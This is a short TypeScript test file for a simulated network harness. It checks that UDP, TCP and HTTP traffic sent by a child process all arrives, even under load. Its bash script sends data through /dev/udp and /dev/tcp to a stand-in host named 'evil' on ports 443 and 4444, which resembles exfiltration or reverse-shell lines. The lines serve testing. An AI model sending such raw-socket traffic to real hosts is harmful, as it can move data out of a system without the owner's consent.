// SPDX-License-Identifier: Apache-2.0
// The internet that tests make: what the tests of the gate conclude from it must be so.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { after, before, test } from 'node:test'
import { ORIGINS } from '../_internet/addresses.ts'
import { Internet } from '../_internet/internet.ts'

let internet: Internet
before(async () => {
  internet = await Internet.start()
})
after(() => internet[Symbol.asyncDispose]())

const COUNT = 100

test('what was sent is told when its sender has ended, however busy the origins are', async () => {
  const script = `for i in $(seq ${COUNT}); do
  echo datagram > /dev/udp/${ORIGINS.evil}/443
  exec 3<>/dev/tcp/${ORIGINS.evil}/4444; echo stream >&3
  exec 3<>/dev/tcp/${ORIGINS.web}/80; printf 'GET /title HTTP/1.0\\r\\n\\r\\n' >&3
done`
  const [program = '', ...words] = [...internet.wrap, 'bash', '-c', script]
  execFileSync(program, words)
  const arrived = await internet.arrivals()
  for (const kind of ['udp', 'tcp', 'http']) assert.equal(arrived.filter((arrival) => arrival.kind === kind).length, COUNT, kind)
})
